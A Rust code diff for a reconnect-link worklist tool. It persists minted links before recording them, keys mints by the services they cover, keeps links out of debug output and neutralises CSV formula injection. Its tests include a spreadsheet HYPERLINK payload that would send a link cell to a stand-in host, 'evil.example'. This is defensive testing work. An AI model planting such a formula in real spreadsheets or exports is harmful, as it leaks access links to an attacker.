@@ -11,8 +11,17 @@
 //!
 //! `--links` mints one link per row (or per owner when the vendor's link covers all of an
 //! owner's services), paced by the run's gate. Each mint is noted in the state's memo (when,
-//! never the link), so a re-run does not mint twice unless `force_links`.
+//! never the link), so a re-run does not mint twice unless `force_links`; the rows holding a
+//! link are written, flushed and (for a file) synced before the mint is noted, so a full disk
+//! or a stop between the two costs a second mint, never a lost link. The memo key is the owner
+//! and service, or for a link that serves all of an owner's services, the owner and the set of
+//! vendor ids it was minted for (Apideck: each row's unified API and service): a later run that
+//! needs a link for more mints again.
+//!
+//! Every input is read ([`worklist`]) before the output is opened ([`write_worklist`]). CSV
+//! cells that a spreadsheet would run as a formula are prefixed with `'` ([`csv_cell`]).
 
+use std::borrow::Cow;
 use std::collections::{BTreeMap, BTreeSet, HashMap};
 use std::io::Write;
 use std::path::Path;
@@ -43,8 +52,9 @@ pub struct ReconnectOptions {
     pub csv: bool,
 }
 
-/// One worklist row: an owner and a service.
-#[derive(Debug, Clone, PartialEq, serde::Serialize)]
+/// One worklist row: an owner and a service. Its `Debug` leaves out the link (it grants access
+/// to the owner's connection settings until it expires).
+#[derive(Clone, PartialEq, serde::Serialize)]
 pub struct WorkRow {
     pub owner_id: String,
     pub owner_name: Option<String>,
@@ -60,8 +70,76 @@ pub struct WorkRow {
     pub link: Option<String>,
     pub link_expires_at: Option<String>,
     pub link_note: Option<String>,
-    /// Set when an earlier run minted this row's link (not minted again).
+    /// When this row's link was minted (RFC 3339): by this run (`link` is set) or by an earlier
+    /// one (not minted again, `link` is empty).
     pub link_minted_at: Option<String>,
+}
+
+impl std::fmt::Debug for WorkRow {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("WorkRow")
+            .field("owner_id", &self.owner_id)
+            .field("service", &self.service)
+            .field("status", &self.status)
+            .field("record_ids", &self.record_ids)
+            .field("vendor", &self.vendor)
+            .field("has_link", &self.link.is_some())
+            .field("link_expires_at", &self.link_expires_at)
+            .field("link_minted_at", &self.link_minted_at)
+            .finish_non_exhaustive()
+    }
+}
+
+/// Where the worklist goes. A file is flushed and synced before a mint is noted; any other
+/// writer (stdout) is flushed.
+pub enum Destination<'a> {
+    File(std::fs::File),
+    Writer(&'a mut dyn Write),
+}
+
+impl std::fmt::Debug for Destination<'_> {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str(match self {
+            Destination::File(_) => "Destination::File",
+            Destination::Writer(_) => "Destination::Writer",
+        })
+    }
+}
+
+impl Write for Destination<'_> {
+    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
+        match self {
+            Destination::File(file) => file.write(buf),
+            Destination::Writer(writer) => writer.write(buf),
+        }
+    }
+
+    fn flush(&mut self) -> std::io::Result<()> {
+        match self {
+            Destination::File(file) => file.flush(),
+            Destination::Writer(writer) => writer.flush(),
+        }
+    }
+}
+
+impl Destination<'_> {
+    /// Flushes, and syncs a regular file: what was written survives a crash after this.
+    fn commit(&mut self) -> std::io::Result<()> {
+        self.flush()?;
+        if let Destination::File(file) = self
+            && file.metadata()?.is_file()
+        {
+            file.sync_data()?;
+        }
+        Ok(())
+    }
+}
+
+/// The rows to write, from every input, before the output is opened.
+#[derive(Debug)]
+pub struct Worklist {
+    pub rows: Vec<WorkRow>,
+    pub summary: ReconnectSummary,
 }
 
 /// Counts for the summary on stderr.
@@ -138,16 +216,16 @@ struct Listed {
     target: Option<TargetRef>,
 }
 
-/// Builds the worklist, mints links when asked, and writes it to `out`.
-pub async fn reconnect(
+/// Builds the worklist from the state, the events, the input and the import report (every
+/// input, read before any output is opened). Sends read-only calls at most.
+pub async fn worklist(
     importer: Arc<dyn AuthImporter>,
     state: &StateStore,
     options: &MaintenanceOptions,
     events: &dyn EventView,
     input: &Path,
     reconnect: &ReconnectOptions,
-    out: &mut dyn Write,
-) -> anyhow::Result<ReconnectSummary> {
+) -> anyhow::Result<Worklist> {
     let provider = options.provider.as_str();
     let records = read_input(input)?;
     let statuses = collect(importer.clone(), state, options, events, None).await?;
@@ -211,21 +289,44 @@ pub async fn reconnect(
             .collect();
         importer.discover(&distinct_keys(&wanted, provider)).await?;
     }
-    let mut rows = group(&listed, &records, importer.as_ref()).await;
+    let rows = group(&listed, &records, importer.as_ref()).await;
     summary.rows = rows.len() as u64;
     summary.records = rows.iter().map(|r| r.record_ids.len() as u64).sum();
+    Ok(Worklist { rows, summary })
+}
+
+/// Mints links when asked and writes the rows to `out`: the rows of each mint are written and
+/// committed before the mint is noted in the memo.
+pub async fn write_worklist(
+    importer: &dyn AuthImporter,
+    state: &StateStore,
+    options: &MaintenanceOptions,
+    reconnect: &ReconnectOptions,
+    worklist: Worklist,
+    out: Destination<'_>,
+) -> anyhow::Result<ReconnectSummary> {
+    let Worklist {
+        mut rows,
+        mut summary,
+    } = worklist;
+    let mut writer = RowWriter::new(reconnect.csv, out)?;
     if reconnect.links {
         mint_links(
-            importer.as_ref(),
+            importer,
             state,
             options,
             reconnect,
             &mut rows,
             &mut summary,
+            &mut writer,
         )
         .await?;
+    } else {
+        for row in &rows {
+            writer.row(row)?;
+        }
     }
-    write_rows(&rows, reconnect.csv, out)?;
+    writer.out.commit()?;
     Ok(summary)
 }
 
@@ -279,6 +380,22 @@ async fn group(
     rows.into_values().collect()
 }
 
+/// The memo key of one mint: the owner and service, or (one link per owner) the owner and the
+/// set of vendor ids the link covers, so a link never stands in for services it was not
+/// minted for.
+fn mint_key(provider: &str, one_link_per_owner: bool, rows: &[&WorkRow]) -> String {
+    let owner = &rows[0].owner_id;
+    if !one_link_per_owner {
+        return format!("{provider}\u{1f}{owner}\u{1f}{}", rows[0].service);
+    }
+    let covered: BTreeSet<String> = rows
+        .iter()
+        .map(|row| Value::Object(row.vendor.clone()).to_string())
+        .collect();
+    let covered: Vec<String> = covered.into_iter().collect();
+    format!("{provider}\u{1f}{owner}\u{1f}{}", covered.join("\u{1f}"))
+}
+
 async fn mint_links(
     importer: &dyn AuthImporter,
     state: &StateStore,
@@ -286,30 +403,40 @@ async fn mint_links(
     reconnect: &ReconnectOptions,
     rows: &mut [WorkRow],
     summary: &mut ReconnectSummary,
+    writer: &mut RowWriter<'_>,
 ) -> anyhow::Result<()> {
     let Some(links) = importer.links() else {
         anyhow::bail!("provider {} cannot mint reconnect links", options.provider);
     };
     let memo = state.memo();
     let context = CallContext::new(options);
-    // Groups of row indexes that share one link.
-    let mut groups: BTreeMap<String, Vec<usize>> = BTreeMap::new();
+    let one_link_per_owner = links.one_link_per_owner();
+    // Groups of row indexes that share one link, in row order (rows are sorted by owner, so
+    // an owner's rows are adjacent and the file keeps the row order).
+    let mut groups: Vec<Vec<usize>> = Vec::new();
     for (index, row) in rows.iter().enumerate() {
-        let key = if links.one_link_per_owner() {
-            row.owner_id.clone()
-        } else {
-            format!("{}\u{1f}{}", row.owner_id, row.service)
-        };
-        groups.entry(key).or_default().push(index);
+        let joins_last = groups.last().is_some_and(|last| {
+            let first = &rows[last[0]];
+            first.owner_id == row.owner_id && (one_link_per_owner || first.service == row.service)
+        });
+        match groups.last_mut() {
+            Some(last) if joins_last => last.push(index),
+            _ => groups.push(vec![index]),
+        }
     }
-    for (key, indexes) in groups {
-        let memo_key = format!("{}\u{1f}{key}", options.provider);
+    for indexes in groups {
+        let memo_key = mint_key(
+            &options.provider,
+            one_link_per_owner,
+            &indexes.iter().map(|&i| &rows[i]).collect::<Vec<_>>(),
+        );
         if !reconnect.force_links
             && let Some(when) = memo.get(MINTED, &memo_key)
         {
             summary.links_already_minted += 1;
             for &index in &indexes {
                 rows[index].link_minted_at = Some(when.clone());
+                writer.row(&rows[index])?;
             }
             continue;
         }
@@ -323,20 +450,26 @@ async fn mint_links(
             indexes.iter().map(|&i| rows[i].vendor.clone()).collect();
         match context.call(|| links.mint(&owner, &ids)).await {
             Ok(link) => {
-                summary.links_minted += 1;
                 let now = chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Secs, true);
-                memo.put(MINTED, &memo_key, &now);
                 for &index in &indexes {
                     rows[index].link = Some(link.url.clone());
                     rows[index].link_expires_at = Some(link.expires_at.clone());
                     rows[index].link_note = Some(link.note.clone());
+                    rows[index].link_minted_at = Some(now.clone());
+                    writer.row(&rows[index])?;
                 }
+                // The link is on disk before the mint is noted: a failed write above leaves
+                // it un-noted, and the next run mints again.
+                writer.out.commit()?;
+                memo.put(MINTED, &memo_key, &now);
+                summary.links_minted += 1;
             }
             Err(error) => {
                 summary.link_errors += 1;
                 let note = format!("no link: {}", error.message());
                 for &index in &indexes {
                     rows[index].link_note = Some(note.clone());
+                    writer.row(&rows[index])?;
                 }
             }
         }
@@ -344,7 +477,7 @@ async fn mint_links(
     Ok(())
 }
 
-const CSV_HEADER: [&str; 11] = [
+const CSV_HEADER: [&str; 12] = [
     "owner_id",
     "owner_name",
     "owner_email",
@@ -356,7 +489,18 @@ const CSV_HEADER: [&str; 11] = [
     "link",
     "link_expires_at",
     "link_note",
+    "link_minted_at",
 ];
+
+/// A CSV cell a spreadsheet will not run as a formula: a cell starting with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return gets a leading `'` (OWASP's rule for CSV injection). Pure.
+pub fn csv_cell(text: &str) -> Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        Cow::Borrowed(text)
+    }
+}
 
 /// `key=value` pairs joined by `;`, for a mail-merge column. Pure.
 fn flat_ids(vendor: &Map<String, Value>) -> String {
@@ -370,14 +514,24 @@ fn flat_ids(vendor: &Map<String, Value>) -> String {
         .join(";")
 }
 
-/// Writes the rows as JSON Lines or CSV (with a header row).
-pub fn write_rows(rows: &[WorkRow], csv: bool, out: &mut dyn Write) -> anyhow::Result<()> {
-    if csv {
-        let mut writer = ::csv::Writer::from_writer(out);
-        writer.write_record(CSV_HEADER)?;
-        for row in rows {
+/// Writes rows as JSON Lines or CSV (a header row first), one row at a time.
+struct RowWriter<'a> {
+    csv: bool,
+    out: Destination<'a>,
+}
+
+impl<'a> RowWriter<'a> {
+    fn new(csv: bool, mut out: Destination<'a>) -> anyhow::Result<Self> {
+        if csv {
+            out.write_all(&csv_line(&CSV_HEADER.map(str::to_owned))?)?;
+        }
+        Ok(Self { csv, out })
+    }
+
+    fn row(&mut self, row: &WorkRow) -> anyhow::Result<()> {
+        let line = if self.csv {
             let opt = |v: &Option<String>| v.clone().unwrap_or_default();
-            writer.write_record([
+            let cells = [
                 row.owner_id.clone(),
                 opt(&row.owner_name),
                 opt(&row.owner_email),
@@ -389,16 +543,36 @@ pub fn write_rows(rows: &[WorkRow], csv: bool, out: &mut dyn Write) -> anyhow::R
                 opt(&row.link),
                 opt(&row.link_expires_at),
                 opt(&row.link_note),
-            ])?;
-        }
-        writer.flush()?;
-    } else {
-        for row in rows {
+                opt(&row.link_minted_at),
+            ]
+            .map(|cell| csv_cell(&cell).into_owned());
+            csv_line(&cells)?
+        } else {
             let mut text = serde_json::to_string(&json!(row))?;
             text.push('\n');
-            out.write_all(text.as_bytes())?;
-        }
+            text.into_bytes()
+        };
+        self.out.write_all(&line)?;
+        Ok(())
     }
+}
+
+/// One CSV record (quoted as needed), with its line end.
+fn csv_line(cells: &[String]) -> anyhow::Result<Vec<u8>> {
+    let mut writer = ::csv::Writer::from_writer(Vec::new());
+    writer.write_record(cells)?;
+    writer
+        .into_inner()
+        .map_err(|e| anyhow::anyhow!("{}", e.error()))
+}
+
+/// Writes the rows as JSON Lines or CSV (with a header row), without minting.
+pub fn write_rows(rows: &[WorkRow], csv: bool, out: &mut dyn Write) -> anyhow::Result<()> {
+    let mut writer = RowWriter::new(csv, Destination::Writer(out))?;
+    for row in rows {
+        writer.row(row)?;
+    }
+    writer.out.commit()?;
     Ok(())
 }
 
@@ -437,8 +611,94 @@ mod tests {
             lines.next().unwrap(),
             "u1,\"Ada, Countess\",ada@example.com,pipedrive,refresh_failed,\
              the imported token could not be refreshed,r1 r2,\
-             service_id=pipedrive;unified_api=crm,,,"
+             service_id=pipedrive;unified_api=crm,,,,"
         );
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_are_prefixed_with_a_quote() {
+        let cases: &[(&str, &str)] = &[
+            ("Ada", "Ada"),
+            ("", ""),
+            (
+                "=HYPERLINK(\"http://evil.example/?x=\"&I2,\"Click\")",
+                "'=HYPERLINK(\"http://evil.example/?x=\"&I2,\"Click\")",
+            ),
+            ("+1 555", "'+1 555"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("a=b", "a=b"),
+            (" =1", " =1"),
+            (
+                "https://vault.example/session/1",
+                "https://vault.example/session/1",
+            ),
+        ];
+        for (cell, expect) in cases {
+            assert_eq!(csv_cell(cell), *expect, "{cell:?}");
+        }
+    }
+
+    #[test]
+    fn a_formula_owner_name_is_inert_in_the_csv_next_to_a_link() {
+        let mut row = row();
+        row.owner_name = Some("=HYPERLINK(\"http://evil.example/?x=\"&I2,\"Click\")".into());
+        row.owner_id = "-u1".into();
+        row.link = Some("https://vault.example/session/CANARY".into());
+        let mut out = Vec::new();
+        write_rows(&[row], true, &mut out).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        let line = text.lines().nth(1).unwrap();
+        assert!(
+            line.starts_with(
+                "'-u1,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&I2,\"\"Click\"\")\","
+            ),
+            "{line}"
+        );
+    }
+
+    #[test]
+    fn debug_of_a_row_never_shows_its_link() {
+        let mut row = row();
+        row.link = Some("https://vault.example/session/CANARY-link".into());
+        let text = format!("{row:?}");
+        assert!(!text.contains("CANARY-link"), "{text}");
+        assert!(text.contains("has_link: true"), "{text}");
+    }
+
+    fn rows_of(owner: &str, apis: &[(&str, &str)]) -> Vec<WorkRow> {
+        apis.iter()
+            .map(|(api, service)| {
+                let mut row = row();
+                row.owner_id = owner.into();
+                row.service = (*service).into();
+                row.vendor = Map::from_iter([
+                    ("unified_api".to_owned(), json!(api)),
+                    ("service_id".to_owned(), json!(service)),
+                ]);
+                row
+            })
+            .collect()
+    }
+
+    #[test]
+    fn a_link_for_all_of_an_owners_services_is_keyed_by_what_it_covers() {
+        let key = |rows: &[WorkRow], per_owner: bool| {
+            mint_key("apideck", per_owner, &rows.iter().collect::<Vec<_>>())
+        };
+        let crm = rows_of("u1", &[("crm", "hubspot")]);
+        let crm_and_accounting = rows_of("u1", &[("crm", "hubspot"), ("accounting", "xero")]);
+        let reordered = rows_of("u1", &[("accounting", "xero"), ("crm", "hubspot")]);
+        assert_ne!(key(&crm, true), key(&crm_and_accounting, true));
+        assert_eq!(key(&crm_and_accounting, true), key(&reordered, true));
+        assert_ne!(
+            key(&crm, true),
+            key(&rows_of("u2", &[("crm", "hubspot")]), true)
+        );
+        // One link per service: owner and service, as before.
+        assert_eq!(key(&crm, false), "apideck\u{1f}u1\u{1f}hubspot");
     }
 
     #[test]
